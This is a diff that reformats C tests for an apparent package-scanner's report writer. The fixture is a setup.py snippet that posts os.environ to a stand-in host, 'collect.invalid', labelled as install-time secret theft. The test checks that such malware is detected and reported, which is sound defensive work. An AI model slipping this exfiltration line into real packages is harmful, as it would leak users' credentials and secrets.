@@ -5,7 +5,8 @@
 #include "base/utf8.h"
 #include "hand.h"
 
-static const char source[] = "import os\n\nimport urllib.request\n    urllib.request.urlopen('http://collect.invalid/x', os.environ)\n";
+static const char source[] = "import os\n\nimport urllib.request\n    "
+                             "urllib.request.urlopen('http://collect.invalid/x', os.environ)\n";
 
 typedef struct scene {
     hand h;
@@ -34,15 +35,33 @@ static void scene_init(scene *s)
     hand_value(&s->h, code, TW_ARGROLE_HOST, "93.184.216.34");
     hand_flow(&s->h, env, http, 0, TW_CONF_FOLDED);
     TW_PUSH(s->h.a, s->behaviours,
-            ((tw_behaviour){.id = TW_S("theft.env"), .says = TW_S("At install it sends secrets"), .check = TW_S("why?"),
-                            .kind = TW_S("malware"), .attack = {TW_S("T1552")}, .n_attack = 1,
-                            .ceiling = TW_LEVEL_MALICIOUS, .confidence = TW_CONF_FOLDED, .reason = TW_S("setup.py"),
-                            .evidence = {env, http, code}, .n_evidence = 3, .n_flows = 1, .layers = {l}, .n_layers = 1,
+            ((tw_behaviour){.id = TW_S("theft.env"),
+                            .says = TW_S("At install it sends secrets"),
+                            .check = TW_S("why?"),
+                            .kind = TW_S("malware"),
+                            .attack = {TW_S("T1552")},
+                            .n_attack = 1,
+                            .ceiling = TW_LEVEL_MALICIOUS,
+                            .confidence = TW_CONF_FOLDED,
+                            .reason = TW_S("setup.py"),
+                            .evidence = {env, http, code},
+                            .n_evidence = 3,
+                            .n_flows = 1,
+                            .layers = {l},
+                            .n_layers = 1,
                             .n_matches = 1}));
-    s->input = (tw_input){.bytes = TW_S("bytes"), .artifact = TW_S("dir/pkg-1.tar.gz"), .has_index = true, .index = 7};
-    s->in = (tw_report_in){.input = &s->input, .format = "tar.gz", .package = &s->h.package, .members = s->h.members,
-                           .n_members = s->h.package.n_members, .join = &s->h.j, .behaviours = &s->behaviours,
-                           .findings = &s->h.findings, .coverage = &s->h.coverage, .evidence = &s->evidence,
+    s->input = (tw_input){
+        .bytes = TW_S("bytes"), .artifact = TW_S("dir/pkg-1.tar.gz"), .has_index = true, .index = 7};
+    s->in = (tw_report_in){.input = &s->input,
+                           .format = "tar.gz",
+                           .package = &s->h.package,
+                           .members = s->h.members,
+                           .n_members = s->h.package.n_members,
+                           .join = &s->h.j,
+                           .behaviours = &s->behaviours,
+                           .findings = &s->h.findings,
+                           .coverage = &s->h.coverage,
+                           .evidence = &s->evidence,
                            .limits = &s->h.limits};
 }
 
@@ -72,7 +91,8 @@ static const tw_node *at(const scene *s, const char *path) /* "behaviours/0/evid
     while (n && tw_str_split(&rest, '/', &part)) {
         uint32_t id = tw_node_id(&s->doc, n), i = tw_node_first(&s->doc, id);
         uint64_t k;
-        if (!tw_str_u64(part, &k)) n = tw_node_get(&s->doc, id, part);
+        if (!tw_str_u64(part, &k))
+            n = tw_node_get(&s->doc, id, part);
         else {
             for (; k && i != tw_node_end(&s->doc, id); k--) i = s->doc.nodes[i].next;
             n = i == tw_node_end(&s->doc, id) ? NULL : &s->doc.nodes[i];
@@ -98,9 +118,11 @@ static void is_null(const scene *s, const char *path)
 TEST(keys_stand_in_the_order_of_the_schema)
 {
     static const char *const keys[] = {
-        "schema", "artifact", "index", "subject", "sha256", "purl", "ecosystem", "name", "version", "versions", "verdict",
-        "kind", "recommendation", "score", "score_kind", "complete", "summary", "triggers", "behaviours", "findings",
-        "capabilities", "flows", "layers", "indicators", "coverage", "contributions", "errors", "stats", "report_sha256"};
+        "schema",         "artifact",      "index",        "subject",  "sha256",       "purl",
+        "ecosystem",      "name",          "version",      "versions", "verdict",      "kind",
+        "recommendation", "score",         "score_kind",   "complete", "summary",      "triggers",
+        "behaviours",     "findings",      "capabilities", "flows",    "layers",       "indicators",
+        "coverage",       "contributions", "errors",       "stats",    "report_sha256"};
     scene s;
     scene_init(&s);
     write_report(&s);
@@ -123,7 +145,8 @@ TEST(evidence_has_line_column_and_snippet)
     is(&s, "behaviours/0/evidence/0/line", "3"); /* the layer's place in its parent */
     is(&s, "behaviours/0/evidence/1/line", "4");
     is(&s, "behaviours/0/evidence/1/col", "55");
-    is(&s, "behaviours/0/evidence/1/snippet", "urllib.request.urlopen('http://collect.invalid/x', os.environ)");
+    is(&s, "behaviours/0/evidence/1/snippet",
+       "urllib.request.urlopen('http://collect.invalid/x', os.environ)");
     is(&s, "behaviours/0/evidence/1/member", "pkg-1/setup.py");
     is_null(&s, "behaviours/0/evidence/1/layer");
     is(&s, "behaviours/0/evidence/3/layer", "1");
@@ -157,7 +180,8 @@ TEST(the_hash_covers_all_but_the_name)
     scene_init(&s);
     write_report(&s);
     tw_str json = tw_buf_str(&s.out);
-    size_t name = tw_str_find(json, TW_S(",\"artifact\":")), subject = tw_str_find(json, TW_S(",\"subject\":")),
+    size_t name = tw_str_find(json, TW_S(",\"artifact\":")),
+           subject = tw_str_find(json, TW_S(",\"subject\":")),
            tail = tw_str_find(json, TW_S(",\"report_sha256\":"));
     tw_buf rest = TW_BUF_INIT;
     tw_buf_puts(&rest, tw_str_sub(json, 0, name));
@@ -265,8 +289,11 @@ TEST(a_failure_is_a_report_too)
 {
     tw_arena *a = tw_arena_new(0);
     tw_input input = {.artifact = TW_S("x.whl"), .has_index = true, .index = 3};
-    tw_report_error e = {.code = "worker-died", .member = TW_NO_MEMBER, .off = UINT64_MAX,
-                         .says = TW_S("The worker died on this artifact"), .retryable = true};
+    tw_report_error e = {.code = "worker-died",
+                         .member = TW_NO_MEMBER,
+                         .off = UINT64_MAX,
+                         .says = TW_S("The worker died on this artifact"),
+                         .retryable = true};
     tw_digest none = {{0}};
     scene s = {.out = TW_BUF_INIT};
     tw_diag d;
